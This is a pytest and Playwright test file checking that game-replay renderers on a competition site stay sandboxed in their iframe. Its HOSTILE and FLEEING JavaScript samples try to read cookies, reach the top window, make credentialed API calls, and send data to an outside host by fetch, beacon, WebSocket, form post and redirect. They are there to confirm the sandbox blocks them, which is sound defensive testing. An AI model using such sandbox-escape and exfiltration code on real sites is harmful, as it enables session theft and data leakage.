"""Drawings from elsewhere on the site: they draw the game, and reach nothing else."""

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Browser, BrowserContext, FrameLocator, Page, expect

import evaluation
from evaluation import environments
from league import drawings
from tests.factories import make_competition, make_rated_match, make_submission, make_user

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]
REPLAY = json.loads((Path(__file__).parents[1] / "evaluation/golden/connectx.json").read_text())
LAST = len(REPLAY["steps"]) - 1

Visit = Callable[..., Page]
# A drawing function that tries every way out and draws what came of it.
HOSTILE = """
async function renderer({ parent, step, act }) {
  const ways = {
    cookie: () => document.cookie,
    above: () => window.parent.document.title,
    top: () => window.top.location.href,
    storage: () => localStorage.length,
    session: () => sessionStorage.length,
    database: () => indexedDB.open("x"),
    worker: () => navigator.serviceWorker.register("/x.js"),
    away: () => { window.top.location = "ELSEWHERE/away"; },
    popup: () => window.open("ELSEWHERE/popup") ?? fail(),
    question: () => confirm("?") || fail(),
    fullscreen: () => document.documentElement.requestFullscreen(),
    fetch: () => fetch("ELSEWHERE/fetch"),
    api: () => fetch("SITE/api/v1/competitions", { credentials: "include" }),
    beacon: () => { navigator.sendBeacon("ELSEWHERE/beacon"); fail(); },  // true even if refused
    socket: () => new Promise((yes, no) => {
      const socket = new WebSocket("ELSEWHERE/socket".replace("http", "ws"));
      Object.assign(socket, { onopen: yes, onerror: no });
    }),
    module: () => import("ELSEWHERE/module.js"),
    code: () => new Function("return 1")(),
    image: () => new Promise((yes, no) => {
      Object.assign(new Image(), { onload: yes, onerror: no, src: "ELSEWHERE/image.png" });
    }),
    form: () => {
      const form = Object.assign(document.createElement("form"), {
        action: "ELSEWHERE/form", target: "_top", method: "post",
      });
      document.body.append(form);
      form.submit();
      fail();
    },
    download: () => {
      const link = Object.assign(document.createElement("a"), { href: "data:,x", download: "x" });
      link.click();
      fail();
    },
  };
  act({ cheat: true });
  for (const data of ["ready", null, 7, { drawing: "key", key: "f" }, { drawing: "act", action: 1 },
                      { drawing: "key", key: "__proto__" }, { drawing: ["ready"] }]) {
    window.parent.postMessage(data, "*");
  }
  const open = [];
  for (const [name, way] of Object.entries(ways)) {
    try {
      await way();
      open.push(name);
    } catch {}
  }
  parent.textContent = `step ${step}, open: ${open.join(" ") || "none"}`;
}
function fail() { throw new Error("refused"); }
"""
ENDLESS = "function renderer() { for (let n = 0; ; n++) if (n < 50) alert('again'); }"
FLEEING = "function renderer() { location = 'ELSEWHERE/fled?' + document.title; }"
VIEWER = """<!doctype html><html>
<head><link rel="stylesheet" href="ELSEWHERE/font.css"></head><body>
<p id="out">{}</p><button onclick="window.shout()">shout</button>
<script type="module">
const out = document.getElementById("out");
const names = window.kaggle.environment.info.TeamNames;
window.shout = () => { out.textContent += "!"; };
window.addEventListener("message", ({ data }) => {
  const { step, parentHandlesUi } = data;
  if (typeof step == "number") out.textContent = `${names} at ${step}, ${parentHandlesUi}`;
});
</script></body></html>"""


class Elsewhere(BaseHTTPRequestHandler):
    """Another host: notes who gets through to it."""

    reached: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.reached.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *arguments: Any) -> None:
        """Silent."""


@pytest.fixture(autouse=True)
def _registry(monkeypatch: pytest.MonkeyPatch) -> None:
    """What a test registers is forgotten afterwards."""
    for kept in ("_modules", "_games"):
        monkeypatch.setattr(environments, kept, dict(getattr(environments, kept)))


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """The address of another host, which must not be reached."""
    Elsewhere.reached.clear()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    assert Elsewhere.reached == []


def register(name: str, drawing: str) -> None:
    """ConnectX under another name, drawn by somebody else."""
    module = {**environments["connectx"], "html_renderer": lambda: drawing}
    module["specification"] = {**module["specification"], "name": name}
    evaluation.register(name, module)
    drawings.framed.cache_clear()


@pytest.fixture
def person(chromium: Browser, live_server: Any, client: Any) -> Iterator[BrowserContext]:
    """A browser with somebody's session in it."""
    client.force_login(make_user("alice"))
    context = chromium.new_context(viewport={"width": 1280, "height": 800})
    cookie = {"name": "sessionid", "value": client.cookies["sessionid"].value}
    context.add_cookies([{**cookie, "url": live_server.url}])
    yield context
    context.close()


@pytest.fixture
def visit(person: BrowserContext, live_server: Any, elsewhere: str) -> Visit:
    """Opens the replay of an episode of a game that is drawn by the text given."""

    def open_page(drawing: str, path: str = "") -> Page:
        addresses = {"ELSEWHERE": elsewhere, "SITE": live_server.url}
        for name, address in addresses.items():
            drawing = drawing.replace(name, address)
        register("elsewhere", drawing)
        competition = make_competition("elsewhere", environment="elsewhere")
        players = [make_submission(competition, make_user(who)) for who in ("alice", "bob")]
        episode = make_rated_match(competition, *players).episodes.first()
        tab = person.new_page()
        tab.route("**/replay", lambda route: route.fulfill(json=REPLAY))
        tab.goto(f"{live_server.url}{episode.get_absolute_url()}{path}?step=3")
        return tab

    return open_page


def frame_of(tab: Page) -> FrameLocator:
    return tab.frame_locator("iframe.player-frame")


def test_a_hostile_drawing_finds_no_way_out(visit: Visit, person: BrowserContext) -> None:
    dialogs: list[str] = []
    tab = visit(HOSTILE)
    tab.on("dialog", lambda dialog: dialogs.append(dialog.message))
    address = tab.url
    expect(frame_of(tab).locator("#stage")).to_have_text("step 3, open: none")
    tab.get_by_role("button", name="Step forward").click()
    expect(frame_of(tab).locator("#stage")).to_have_text("step 4, open: none")
    tab.wait_for_url(address.replace("step=3", "step=4"))
    assert (person.pages, dialogs) == ([tab], [])
    assert not tab.evaluate("Boolean(document.fullscreenElement)")
    expect(tab.locator(".player-counter")).to_have_text(f"4 / {LAST}")


def test_a_drawing_that_never_ends_leaves_the_page_alive(visit: Visit) -> None:
    tab = visit(ENDLESS)
    tab.wait_for_timeout(500)
    tab.get_by_role("button", name="Step forward").click()
    expect(tab.locator(".player-counter")).to_have_text(f"4 / {LAST}")


def test_a_drawing_that_flees_is_held_by_the_page(visit: Visit) -> None:
    tab = visit(FLEEING)
    tab.wait_for_timeout(500)
    expect(tab.locator(".player-counter")).to_have_text(f"3 / {LAST}")


@pytest.mark.parametrize("path", ["", "embed/"])
def test_a_viewer_follows_the_controls_of_the_player(visit: Visit, path: str) -> None:
    tab = visit(VIEWER, path=path)
    out = frame_of(tab).locator("#out")
    expect(out).to_have_text("first,second at 3, true")
    frame_of(tab).get_by_role("button", name="shout").click()
    expect(out).to_have_text("first,second at 3, true!")
    out.press("ArrowRight")
    expect(tab.locator(".player-counter")).to_have_text(f"4 / {LAST}")
    expect(out).to_contain_text("at 4")


def test_a_drawing_opened_by_itself_has_no_origin_either(
    visit: Visit, person: BrowserContext, live_server: Any
) -> None:
    visit(HOSTILE)
    tab = person.new_page()
    tab.goto(f"{live_server.url}/environments/elsewhere/drawing/")
    assert tab.evaluate("window.origin") == "null"
    with pytest.raises(Exception, match="sandboxed"):
        tab.evaluate("document.cookie")


def test_a_viewer_whose_scripts_stand_elsewhere_is_not_framed(visit: Visit) -> None:
    tab = visit('<!doctype html><script src="ELSEWHERE/app.js"></script>')
    expect(tab.get_by_label("Observation of first")).to_contain_text("board: [0,0")
